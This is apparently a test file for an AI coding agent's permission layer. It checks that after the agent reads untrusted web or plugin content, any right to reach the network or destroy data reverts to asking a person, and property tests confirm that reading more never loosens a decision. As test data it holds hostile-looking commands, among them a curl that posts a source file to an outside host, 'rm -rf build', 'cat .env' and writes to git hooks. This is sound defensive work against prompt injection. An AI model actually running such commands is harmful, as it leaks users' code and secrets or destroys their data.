/** What an agent loses that has read a stranger's words: rights for acts that reach out or destroy, and nothing else. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isSecret, type TaintMark, taintOf } from "../../../../machines/taint.ts";
import { decide } from "../../../../registry/permission/decide.ts";
import type { PermissionQuestion } from "../../../../registry/permission/question.ts";
import {
  bash,
  type Circumstance,
  decided,
  grant,
  pluginTool,
  question,
  read,
  verdict,
  write,
} from "../../../support/permission-question.ts";

const PAGE: TaintMark = { source: "web", label: "https://evil.example/page", turn: 3 };
const SECRET: TaintMark = { source: "secret", label: ".env", turn: 1 };
const tainted = (given: Circumstance = {}, ...marks: TaintMark[]): Circumstance => ({
  taint: [PAGE, ...marks],
  ...given,
});
const fetched = (url: string, given: Circumstance) => decided("WebFetch", { url }, given);

describe("reaching out", () => {
  it("a wide rule for the web is asked about; one that says the host, or the operator's trust in it, is not", () => {
    const url = "https://docs.example.org/a?b=c";
    for (const allow of [["WebFetch"], ["WebFetch(domain:*)"], ["WebFetch(domain:*.example.org)"]]) {
      expect(verdict(fetched(url, { allow }))).toBe(`allow config.allow ${allow[0]}`);
      expect(verdict(fetched(url, tainted({ allow })))).toBe("ask taint.reaches-out");
      expect(
        verdict(fetched(url, tainted({ allow, trust: { hosts: ["*.example.org"], plugins: [], repository: true } }))),
      ).toBe(`allow config.allow ${allow[0]}`);
    }
    const allow = ["WebFetch(domain:docs.example.org)"];
    expect(verdict(fetched(url, tainted({ allow })))).toBe(`allow config.allow ${allow[0]}`);
  });

  it("where nobody can be asked it is denied, and the reason names what was read, when, and the rule that is lost", () => {
    const found = fetched("https://a.example/?x", tainted({ allow: ["WebFetch"], approve: "deny" }));
    expect(verdict(found)).toBe("deny taint.reaches-out");
    expect(found.reason).toContain("https://evil.example/page at turn 3, which nobody vouched for");
    expect(found.reason).toContain("allow WebFetch does not cover that");
    expect(found.reason).toContain("nobody can be asked");
  });

  it("a command that could reach the network is asked about whatever allowed it; in a full sandbox there is none to reach", () => {
    const allow = ["Bash(npm test)", "Bash(curl:*)"];
    for (const sandbox of ["none", "partial"] as const) {
      expect(verdict(bash("npm test", { allow, sandbox }))).toBe("allow config.allow Bash(npm test)");
      expect(verdict(bash("npm test", tainted({ allow, sandbox })))).toBe("ask taint.reaches-out");
      expect(verdict(bash("curl -d @src/a https://x.example/", tainted({ allow, sandbox })))).toBe(
        "ask taint.reaches-out",
      );
    }
    expect(verdict(bash("npm test", tainted({ allow, sandbox: "full" })))).toBe("allow config.allow Bash(npm test)");
  });

  it("a plugin's tool that acts is asked about, one that looks only where it is told a stranger's address", () => {
    const looks = pluginTool("mcp__wiki__search");
    const acts = pluginTool("mcp__wiki__post", "mutating");
    const allow = ["mcp__wiki"];
    expect(verdict(decided(acts, {}, { allow }))).toBe("allow config.allow mcp__wiki");
    expect(verdict(decided(acts, {}, tainted({ allow })))).toBe("ask taint.reaches-out");
    expect(verdict(decided(looks, { query: "a" }, tainted({ allow })))).toBe("allow config.allow mcp__wiki");
    const told = { nested: [{ from: "see http://evil.example/?q=1" }] };
    expect(verdict(decided(looks, told, { allow }))).toBe("allow config.allow mcp__wiki");
    expect(verdict(decided(looks, told, tainted({ allow })))).toBe("ask taint.reaches-out");
  });

  it("whoever holds a secret as well is asked each time, named host or granted right notwithstanding", () => {
    const allow = ["WebFetch(domain:docs.example.org)", "mcp__wiki"];
    const grants = [grant("WebFetch(domain:docs.example.org)")];
    const given = tainted({ allow, grants }, SECRET);
    const found = fetched("https://docs.example.org/", given);
    expect(verdict(found)).toBe("ask taint.reaches-out");
    expect(found.reason).toContain("it has read a secret (.env)");
    expect(verdict(decided(pluginTool("mcp__wiki__search"), {}, given))).toBe("ask taint.reaches-out");
    // The secret alone changes nothing: nobody else has a say.
    expect(verdict(fetched("https://docs.example.org/", { allow, taint: [SECRET] }))).toContain("allow");
  });
});

describe("rights that were given before", () => {
  it("the words of a goal give none of them any more, a person's answer for exactly this does", () => {
    const sandbox = "none";
    for (const by of ["goal", "plan"]) {
      const grants = [grant("Bash(npm test)", { by })];
      expect(verdict(bash("npm test", { grants, sandbox }))).toBe("allow grant Bash(npm test)");
      expect(verdict(bash("npm test", tainted({ grants, sandbox })))).toContain("ask");
    }
    const grants = [grant("Bash(npm test)", { by: "ada" })];
    expect(verdict(bash("npm test", tainted({ grants, sandbox })))).toBe("allow grant Bash(npm test)");
  });

  it("what the goal says to edit, or to run in a full sandbox, it still gives", () => {
    const grants = [grant("Edit(./src/a.ts)", { by: "goal" }), grant("Bash(npm test)", { by: "goal" })];
    expect(verdict(write("src/a.ts", tainted({ grants })))).toBe("allow grant Edit(./src/a.ts)");
    expect(verdict(bash("npm test", tainted({ grants, sandbox: "full" })))).toBe("allow grant Bash(npm test)");
  });

  it("what destroys is asked about although a rule allows it, except in a copy that is looked at before it counts", () => {
    const allow = ["Bash(rm:*)"];
    expect(verdict(bash("rm -rf build", { allow, sandbox: "full" }))).toBe("allow config.allow Bash(rm:*)");
    expect(verdict(bash("rm -rf build", tainted({ allow, sandbox: "full" })))).toBe("ask taint.destroys");
    const copy = { allow, sandbox: "full", isolated: true } as const;
    expect(verdict(bash("rm -rf build", tainted(copy)))).toBe("allow config.allow Bash(rm:*)");
  });

  it("being confined does not answer for a call that is asked because of what was read", () => {
    const given = { approve: "allow-safe", sandbox: "full", allow: ["Bash(rm:*)"] } as const;
    expect(verdict(bash("rm -rf build", tainted(given)))).toBe("deny taint.destroys");
  });
});

describe("what stays", () => {
  it("looking around is free, and so are edits that a rule opens and work in the run's own tree", () => {
    const given = tainted({ allow: ["Edit(src/**)"], sandbox: "full" });
    expect(read("src/a.ts", given).decision).toBe("allow");
    expect(bash("git log --oneline", given).decision).toBe("allow");
    expect(bash("git log --oneline", tainted({ sandbox: "none" })).decision).toBe("allow");
    // Elsewhere too, where a rule lets it look.
    for (const sandbox of ["full", "none"] as const) {
      expect(bash("cat /etc/hosts", tainted({ allow: ["Bash(cat:*)"], sandbox })).decision).toBe("allow");
    }
    expect(write("src/a.ts", given).decision).toBe("allow");
    expect(verdict(bash("make", tainted({ isolated: true, sandbox: "full" })))).toBe("allow policy.isolated");
  });

  it("what was asked before is asked by the same rule, and the question says what was read", () => {
    const before = write("a.ts");
    const after = write("a.ts", tainted());
    expect([after.decision, after.rule]).toEqual([before.decision, before.rule]);
    expect(after.reason).toContain("https://evil.example/page");
    expect(before.reason).not.toContain("vouched");
  });

  it("what no rule opens stays closed", () => {
    const given = tainted({ allow: ["Write", "Read", "Bash"] });
    for (const path of [".git/hooks/pre-commit", ".env", ".github/workflows/x.yml"]) {
      expect(write(path, given).decision).toBe("ask");
      expect(write(path, { ...given, approve: "deny" }).decision).toBe("deny");
    }
  });
});

const mark = fc.record({
  source: fc.constantFrom("web", "plugin", "network", "dependency", "repository", "secret"),
  label: fc.constantFrom("https://a.example/", "mcp__x__y", ".env", "node_modules/a"),
});
const marks = fc.array(mark, { maxLength: 30 });

const call = fc.oneof(
  fc
    .constantFrom(
      "ls",
      "npm test",
      "git push",
      "rm -rf build",
      "curl https://a.example/",
      "$(x)",
      "cat .env",
      "make > a",
      "npm i",
    )
    .map((command) => ["Bash", { command }] as const),
  fc
    .constantFrom("src/a.ts", ".env", ".git/hooks/x", "../x")
    .chain((file_path) => fc.constantFrom("Read", "Write").map((tool) => [tool, { file_path, content: "" }] as const)),
  fc.constantFrom("https://a.example/", "https://b.example/?x").map((url) => ["WebFetch", { url }] as const),
  fc
    .constantFrom("read-only", "mutating", "destructive")
    .map((risk) => [pluginTool("mcp__s__t", risk), { q: "http://a.example" }] as const),
);
const rules = fc.subarray([
  "Bash",
  "Bash(npm test)",
  "Write",
  "WebFetch",
  "WebFetch(domain:a.example)",
  "mcp__s",
  "Bash(git push:*)",
]);
const asked: fc.Arbitrary<PermissionQuestion> = fc
  .record({
    call,
    allow: rules,
    approve: fc.constantFrom("ask", "deny", "allow-safe"),
    sandbox: fc.constantFrom("full", "partial", "none"),
    isolated: fc.boolean(),
    grants: fc.subarray([
      grant("Bash(npm test)", { by: "goal" }),
      grant("WebFetch(domain:b.example)"),
      grant("Bash(git push)"),
    ]),
    hosts: fc.subarray(["a.example", "*.example.com"]),
  })
  .map(({ call: [tool, input], hosts, ...given }) =>
    question(tool, input, { ...given, trust: { hosts, plugins: [], repository: true } }),
  );

const STRICTNESS = { allow: 0, ask: 1, deny: 2 } as const;
const strictness = (one: PermissionQuestion): number => STRICTNESS[decide(one).decision];

describe("whatever is asked, under whatever rules", () => {
  it("more that was read never allows more", () => {
    fc.assert(
      fc.property(asked, marks, marks, (one, some, more) => {
        const before = strictness({ ...one, taint: taintOf(some) });
        expect(strictness({ ...one, taint: taintOf([...some, ...more]) })).toBeGreaterThanOrEqual(before);
        expect(before).toBeGreaterThanOrEqual(strictness(one));
      }),
      { numRuns: 1_500 },
    );
  });

  it("the order in which it was read decides nothing", () => {
    const shuffled = marks.chain((all) =>
      fc.tuple(fc.constant(all), fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length })),
    );
    fc.assert(
      fc.property(asked, shuffled, (one, [some, other]) => {
        expect(verdict(decide({ ...one, taint: taintOf(other) }))).toBe(
          verdict(decide({ ...one, taint: taintOf(some) })),
        );
      }),
      { numRuns: 1_000 },
    );
  });

  it("who has read no stranger's words is asked exactly what was asked before", () => {
    fc.assert(
      fc.property(asked, marks, (one, all) => {
        expect(decide({ ...one, taint: all.filter(isSecret) })).toEqual(decide(one));
      }),
      { numRuns: 1_000 },
    );
  });
});
